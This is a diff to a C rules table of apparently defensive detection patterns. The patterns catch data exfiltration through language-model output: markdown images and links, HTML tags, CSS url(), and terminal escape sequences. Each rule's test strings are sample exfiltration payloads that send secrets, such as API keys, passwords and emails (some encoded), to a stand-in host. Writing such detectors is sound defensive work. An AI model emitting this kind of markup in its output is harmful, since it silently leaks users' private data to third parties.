@@ -29,6 +29,7 @@ const llmg_rule_t  llmg_rules_exfil[] = {
         .literals = llmg_list("!["),
         .pattern = "!\\[" ALT "\\]\\(\\s{0,4}<?" ELSEWHERE ">?"
                    "(?:\\s{1,4}[\"'][^\"'\\n]{0,80}[\"'])?\\s{0,4}\\)",
+        .ends = ")",
         .check = llmg_check_exfil_image,
         .match = llmg_list(
             "![x](https://a.example/p.png?q=the%20api%20key%20is%2012345)",
@@ -54,6 +55,7 @@ const llmg_rule_t  llmg_rules_exfil[] = {
         .max = 620,
         .literals = llmg_list("](http", "](//", "](<http", "](<//"),
         .pattern = "(?<!\\!\\[)\\]\\(<?" ELSEWHERE ">?\\s{0,4}\\)",
+        .ends = ")",
         .check = llmg_check_exfil_link,
         .match = llmg_list(
             "[details](https://a.example/?d=70617373776f72642068756e74657232)",
@@ -73,6 +75,7 @@ const llmg_rule_t  llmg_rules_exfil[] = {
         .max = 480,
         .literals = llmg_list("]: http", "]: //", "]:http", "]: <http"),
         .pattern = "\\]:\\s{0,4}<?" ELSEWHERE,
+        .ends = "a blank, a line end",
         .check = llmg_check_exfil_link,
         .match = llmg_list(
             "[r1]: https://a.example/c?data=7573657220656d61696c20616e6e61"),
@@ -97,6 +100,7 @@ const llmg_rule_t  llmg_rules_exfil[] = {
                    "\\b[^>]{0,200}?(?:src|href|srcset|data|action|poster"
                    "|background|srcdoc|formaction)\\s{0,3}=\\s{0,3}[\"']?"
                    "[^\"'>]{0,60}?" ELSEWHERE "[^>]{0,60}>?",
+        .ends = ">",
         .check = llmg_check_exfil_image,
         .match = llmg_list(
             "<img src=\"https://a.example/p.gif?d=user+email+anna\">",
@@ -119,6 +123,7 @@ const llmg_rule_t  llmg_rules_exfil[] = {
                               "<a rel", "<a style", "<a title", "<area"),
         .pattern = "<(?:a|area)\\b[^>]{0,160}?href\\s{0,3}=\\s{0,3}[\"']?"
                    ELSEWHERE "[^>]{0,60}>?",
+        .ends = ">",
         .check = llmg_check_exfil_link,
         .match = llmg_list(
             "<a href='https://a.example/go?s=dXNlciBlbWFpbCBhbm5hQGV4YW1wbA'>"),
@@ -138,6 +143,7 @@ const llmg_rule_t  llmg_rules_exfil[] = {
                               "@import"),
         .pattern = "(?:url\\(\\s{0,2}[\"']?|@import\\s{1,2}[\"'])" ELSEWHERE
                    "[\"']?\\)?",
+        .ends = ") or a quote",
         .check = llmg_check_exfil_image,
         .match = llmg_list(
             "<div style=\"background:url(//a.example/b?password%20hunter2)\">",
@@ -167,6 +173,7 @@ const llmg_rule_t  llmg_rules_exfil[] = {
                    "(?:\\x1B\\[(?:28|0)?m)?)?"
                    "|\\x1B[PX^_][^\\x1B\\n]{0,240}(?:\\x1B\\\\)?"
                    "|\\x1B[()][0-9A-Z]|\\x1B[c78]",
+        .ends = "its last letter, ST",
         .match = llmg_list(
             "red \x1B[31mtext",
             "\x1B[8mhidden\x1B[28m",
@@ -189,6 +196,7 @@ const llmg_rule_t  llmg_rules_exfil[] = {
                    "[^\\x07\\x1B\\n]{0,240}(?:\\x07|\\x1B\\\\)?"
                    "(?:[^\\s\\x1B]{1,60}\\x1B\\]8;;\\x07)?"
                    "|[0-9;]{0,8}[A-Za-z]?)",
+        .ends = "BEL, ST",
         .match = llmg_list(
             "\x1B]8;;https://example.com/\x07link\x1B]8;;\x07",
             "\x1B]52;c;aGk=\x07"),
